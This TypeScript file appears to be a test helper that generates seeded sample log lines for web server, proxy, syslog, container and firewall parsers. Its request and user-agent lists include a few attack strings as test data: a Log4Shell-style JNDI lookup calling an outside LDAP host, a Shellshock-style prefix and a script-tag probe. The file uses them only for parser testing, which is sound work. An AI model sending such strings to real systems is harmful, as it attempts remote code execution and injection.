/** Lines as well-known programs write them, by the name of the built-in parser that reads them. */

/** Returns the same numbers for the same seed. */
export class Random {
  #state: number

  constructor(seed: number) {
    this.#state = seed
  }

  below(n: number): number {
    this.#state = (Math.imul(this.#state, 1_664_525) + 1_013_904_223) >>> 0
    return Math.floor((this.#state / 0x100000000) * n)
  }

  of<T>(items: readonly T[]): T {
    return items[this.below(items.length)] as T
  }

  hex(digits: number): string {
    return Array.from({ length: digits }, () => this.below(16).toString(16)).join('')
  }
}

const two = (n: number): string => String(n).padStart(2, '0')
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov']
const ZONES = ['+0000', '+0100', '-0730', '+0545']
const clock = (r: Random): string => `${two(r.below(24))}:${two(r.below(60))}:${two(r.below(60))}`
const clf = (r: Random): string => `${two(1 + r.below(28))}/${r.of(MONTHS)}/2026:${clock(r)} ${r.of(ZONES)}`
const isoDay = (r: Random): string => `2026-${two(1 + r.below(11))}-${two(1 + r.below(28))}T${clock(r)}`
const bsd = (r: Random): string => `${r.of(MONTHS)} ${String(1 + r.below(28)).padStart(2)} ${clock(r)}`

const ADDRESSES = [
  '10.0.0.7',
  '203.0.113.9',
  '::1',
  '2001:db8:add:4002:91f2:a9b2:e09a:6fc6',
  'unix:',
  'client.example.org',
]
const LISTS = [
  ...ADDRESSES,
  '10.0.0.2, 10.0.0.1, 127.0.0.1',
  '2001:db8::7, 10.225.192.17',
  '10.0.0.2,10.0.0.1',
]
const USERS = ['-', '-', '-', 'frank', 'john doe', 'ada@example.com', 'DOMAIN\\\\ada', 'j. r. r. tolkien']
const HOSTS = ['example.com', 'www.example.com:443', '127.0.1.1:80', '[2001:db8::1]:8443']
const REQUESTS = [
  'GET / HTTP/1.1',
  'GET /a?b=c&d=%20e HTTP/2.0',
  'POST /api/v1/items/17 HTTP/1.1',
  'GET /a b c HTTP/1.1',
  'GET /search?q=two words  and more HTTP/1.0',
  'GET /old',
  'HEAD * HTTP/1.1',
  'OPTIONS * HTTP/3',
  '-',
  '',
  '\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03',
  '\\x16\\x03\\x01 \\x00 G',
  'hello',
  '\\n',
  '- - HTTP/1.0',
  '<SCRIPT>X</SCRIPT> / HTTP/1.1',
  'GET /\\"quoted\\" HTTP/1.1',
  'GET http://proxy.example.org/ HTTP/1.1',
  'SSH-2.0-Go',
  'quit HTTP',
  'GET /caf\\xC3\\xA9/ü HTTP/1.1',
]
const AGENTS = [
  '-',
  'curl/8.5.0',
  'Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0',
  'Mozilla/5.0 (compatible; bot/2.1; +https://bot.example.org/about [en])',
  'a \\"quoted\\" agent',
  'trailing \\\\',
  '${jndi:ldap://198.51.100.1/a}',
  '',
  '() { :; }; echo "x"'.replaceAll('"', '\\x22'),
]
const REFERERS = ['-', 'https://example.com/start?from=mail', 'https://example.com/a b', '']
const STATUS = ['200', '301', '304', '400', '404', '408', '499', '502']

const request = (r: Random): string =>
  `"${r.of(REQUESTS)}" ${r.of(STATUS)} ${r.of(['0', '-', '612', '7648063'])}`
const combined = (r: Random, addresses: readonly string[] = LISTS): string =>
  `${r.of(addresses)} - ${r.of(USERS)} [${clf(r)}] ${request(r)} "${r.of(REFERERS)}" "${r.of(AGENTS)}"`
const common = (r: Random): string => `${r.of(LISTS)} - ${r.of(USERS)} [${clf(r)}] ${request(r)}`
const withHost = (r: Random): string => `${r.of(HOSTS)} ${combined(r)}`
const forwarded = (r: Random): string => `${combined(r)} "${r.of(LISTS)}"`

const PROGRAMS = [
  (r: Random) =>
    `sshd[${r.below(99_999)}]: Failed password for invalid user a b from 203.0.113.9 port ${r.below(65_535)} ssh2`,
  (r: Random) =>
    `CRON[${r.below(99_999)}]: (root) CMD (  [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean)`,
  (r: Random) => `kernel: [${r.below(99_999)}.${r.hex(6)}] eth0: link up (1000Mbps/Full duplex)`,
  () => 'kernel: audit: type=1400 msg=audit(1.2:3): apparmor="DENIED" comm="x"',
  () => 'systemd[1]: Started session-1.scope - Session 1 of User root.',
  () => '(systemd)[4179]: pam_unix(systemd-user:session): session opened for user root(uid=0) by (uid=0)',
  () => '(udev-worker)[77]: vda: Process failed with exit code 1.',
  () => 'sudo:     root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/ls [a]',
  () => 'sshd(pam_unix)[19939]: check pass; user unknown',
  (r: Random) => `postfix/smtpd[${r.below(9999)}]: connect from unknown[203.0.113.9]`,
  () => 'com.apple.CDScheduler[43]: Thermal pressure state: 1 Memory pressure state: 0',
  () => 'Isolated Web Co[1234]: console.error: "x"',
  () => 'user@1000.service: Consumed 1.2s CPU time.',
  () => 'dhclient: DHCPREQUEST of 10.0.0.7 on eth0 to 255.255.255.255 port 67',
  () => 'org.gnome.Shell.desktop[2112]: Window manager warning: Überlauf',
  () => '/usr/sbin/irqbalance: Balancing is ineffective',
  () => 'last message repeated 2 times',
  () => '--- last message repeated 1 time ---',
  () => "mysqld: ready for connections. Version: '8.0.1'  socket: '/run/mysqld.sock'",
  () => 'dockerd[812]: time="2026-11-21T06:00:00Z" level=info msg="x"',
  () => 'snmpd[9]:',
]
const program = (r: Random): string => r.of(PROGRAMS)(r)
const host = (r: Random): string => r.of(['web-1', 'db.example.org', '10.0.0.7', '2001:db8::1', 'localhost'])
const stamp = (r: Random): string =>
  r.of([bsd(r), bsd(r), `${isoDay(r)}.912134+02:00`, `${isoDay(r)}.912134`, `${isoDay(r)}Z`])
const upstream = (r: Random): string =>
  r.of([
    '10.1.1.1:8080 59 0.004 200',
    '- - - -',
    '10.1.1.1:80, 10.1.1.2:80 0, 12 5.000, 0.004 504, 200',
    '[2001:db8::7]:5000 : unix:/run/x.sock 0 : 1 0.000 : - 502 : 403',
  ])
const proxied = (r: Random): string =>
  `"${r.of(['GET / HTTP/1.1', 'POST /a?b=c HTTP/2', '- - -', 'GET /a b c HTTP/1.1', 'CONNECT db:5432 -'])}" ${r.of(STATUS)} ${r.of(['-', 'UF,URX', 'NR'])}`
const ids = (r: Random): string =>
  `"${r.of(LISTS)}" "${r.of(['curl/8.5', '-', 'Mozilla/5.0 (X11)'])}" "${r.hex(8)}-${r.hex(4)}" "shop:8080" "${r.of(['tcp://10.0.2.1:80', '-', '[2001:db8::1]:80'])}"`
const netfilter = (r: Random): string =>
  `<4>1 ${isoDay(r)}.000000+00:00 fw kernel - - - [ ${r.below(9999)}.567890] ${r.of(['DROP: ', 'x', '', '[UFW-BLOCK] '])}IN=eth0 OUT=${r.of(['', 'eth1'])} MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 ${r.of([`SRC=10.0.0.9 DST=10.0.0.1 LEN=60 TOS=0x00 PREC=0x00 TTL=64 ID=${r.below(65_535)} ${r.of(['DF ', '', 'CE DF '])}`, 'SRC=fe80:0000:0000:0000:0000:0000:0000:0001 DST=ff02:0000:0000:0000:0000:0000:0000:0001 LEN=72 TC=0 HOPLIMIT=1 FLOWLBL=0 '])}${r.of(['PROTO=TCP SPT=51234 DPT=22 WINDOW=64240 RES=0x00 ACK SYN URGP=0 ', 'PROTO=UDP SPT=53 DPT=5353 LEN=40 ', 'PROTO=ICMP TYPE=8 CODE=0 ID=7 SEQ=1 MARK=0x1 '])}`

/**
 * Lines that the regular expressions of conf/parsers.conf read; each generator stands for one kind of
 * program.
 */
export const REGEX_LINES: readonly { parser: string; kind: string; line(r: Random): string }[] = [
  { parser: 'nginx', kind: 'combined', line: (r) => combined(r) },
  { parser: 'nginx', kind: 'common', line: common },
  {
    parser: 'nginx',
    kind: 'forwarded-for',
    line: (r) => `${forwarded(r)}${r.of(['', ' 0.005', ' "TLSv1.3" rt=0.1 a="b c"'])}`,
  },
  {
    parser: 'nginx',
    kind: 'virtual host',
    line: (r) =>
      r.of([
        withHost(r),
        withHost(r),
        `example.com:80 "10.5.102.222, 199.96.1.1" ${combined(r)}`,
        `example.com 2001:db8::7, 10.225.192.17 ${combined(r, ADDRESSES)}`,
      ]),
  },
  {
    parser: 'apache',
    kind: 'combined',
    line: (r) => `${combined(r)}${r.of(['', '', ' 3413', ' X-Forwarded-For="10.0.0.2, 10.0.0.1"'])}`,
  },
  {
    parser: 'apache',
    kind: 'identity',
    line: (r) => `${r.of(ADDRESSES)} user-identity ${r.of(['-', 'frank'])} [${clf(r)}] ${request(r)}`,
  },
  { parser: 'apache2', kind: 'combined', line: (r) => combined(r) },
  { parser: 'apache2', kind: 'common', line: common },
  { parser: 'apache2', kind: 'virtual host', line: withHost },
  { parser: 'apache2', kind: 'forwarded-for', line: forwarded },
  {
    parser: 'apache_error',
    kind: 'error log',
    line: (r) =>
      `[Sat Nov 21 ${clock(r)}${r.of(['', '.123456'])} 2026] [${r.of(['notice', 'core:error', 'ssl:warn'])}]${r.of(['', ' [pid 35708:tid 140233]', ' [pid 12]'])}${r.of(['', ' [client 72.15.99.187:35236]', ' [client ::1]', ' [client [2001:db8::1]:5000]'])} ${r.of(['AH00126: Invalid URI in request', '(111)Connection refused: [client 10.0.0.1:2] AH00957: x', 'caught SIGTERM, shutting down', 'File does not exist: /var/www/a b, referer: http://x/ [y]'])}`,
  },
  {
    parser: 'k8s-nginx-ingress',
    kind: 'access',
    line: (r) =>
      `${combined(r)} ${r.below(9999)} 0.00${r.below(9)} [${r.of(['shop-web-80', ''])}] ${r.of(['[] ', '[alt-80] ', ''])}${upstream(r)} ${r.hex(32)}${r.of(['', '', ' TLSv1.3 10.0.0.1'])}`,
  },
  {
    parser: 'k8s-nginx-ingress',
    kind: 'before 0.25',
    line: (r) =>
      `10.0.0.7 - [${r.of(['10.0.0.7', '2001:db8::7', '[2001:db8::7]:4711'])}] - ${r.of(['-', 'frank', 'john doe'])} [${clf(r)}] ${request(r)} "-" "${r.of(AGENTS)}" 89 0.001 [default-web-8080] ${upstream(r)} ${r.hex(32)}`,
  },
  {
    parser: 'envoy',
    kind: 'access',
    line: (r) =>
      `[${isoDay(r)}.123Z] ${proxied(r)} 154 0 226 ${r.of(['100', '-'])} ${ids(r)}${r.of(['', '', ' more "a b"'])}`,
  },
  {
    parser: 'istio-envoy-proxy',
    kind: 'access',
    line: (r) =>
      `[${isoDay(r)}.123Z] ${proxied(r)} via_upstream - ${r.of(['"-"', '"TLS error: Secret is not supplied by SDS"', '-'])} 0 135 4 3 ${ids(r)} outbound|8000||httpbin.default.svc.cluster.local 10.44.1.23:37652 10.0.45.184:8000 10.44.1.23:46520 - default${r.of(['', '', ' x=1'])}`,
  },
  {
    parser: 'syslog-rfc3164',
    kind: 'network',
    line: (r) => `<${r.below(192)}>${stamp(r)} ${host(r)} ${program(r)}`,
  },
  { parser: 'syslog-rfc3164', kind: '/var/log/syslog', line: (r) => `${stamp(r)} ${host(r)} ${program(r)}` },
  {
    parser: 'syslog-rfc3164-local',
    kind: '/dev/log',
    line: (r) => `<${r.below(192)}>${stamp(r)} ${program(r)}`,
  },
  {
    parser: 'syslog-rfc3164-local',
    kind: '/var/log/syslog',
    line: (r) => `${stamp(r)} ${host(r)} ${program(r)}`,
  },
  {
    parser: 'syslog-rfc5424',
    kind: 'network',
    line: (r) =>
      `<${r.below(192)}>1 ${isoDay(r)}.003Z ${host(r)} evntslog ${r.of(['-', '4711'])} ${r.of(['-', 'ID47'])} ${r.of(['-', '[ex@1 a="b\\"]\\]"][o@1]', '[a@1 b="c d"]'])}${r.of(['', ' An application event', ' \ufeffüber: x', ' '])}`,
  },
  {
    parser: 'docker-daemon',
    kind: 'dockerd',
    line: (r) =>
      `time="${isoDay(r)}.123456789Z" level=${r.of(['info', 'warning', 'error'])} msg=${r.of(['"Loading \\"x\\": done."', 'stopping', '"Handler for GET /a returned error: b\\\\"', '""'])}${r.of(['', ' module=grpc', ' error="a b" container=1f'])}`,
  },
  {
    parser: 'kube-custom',
    kind: 'tag',
    line: (r) => `${r.of(['', 'kube.'])}web-${r.hex(5)}.x-1_shop_nginx-a-${r.hex(64)}.log`,
  },
  {
    parser: 'mongodb',
    kind: 'mongod 4.2',
    line: (r) =>
      `${isoDay(r)}.000+0100 ${r.of(['I', 'W', 'D1'])} ${r.of([' COMMAND', 'NETWORK ', '-'])}  [conn${r.below(99)}] ${r.of(['command shop.items find keysExamined:0 protocol:op_msg 103ms', 'waiting for connections on port 27017', 'end connection 10.0.0.1:2 (3 connections now open)'])}`,
  },
  { parser: 'kmsg-netfilter-log', kind: 'LOG target', line: netfilter },
]

export { clock, isoDay }
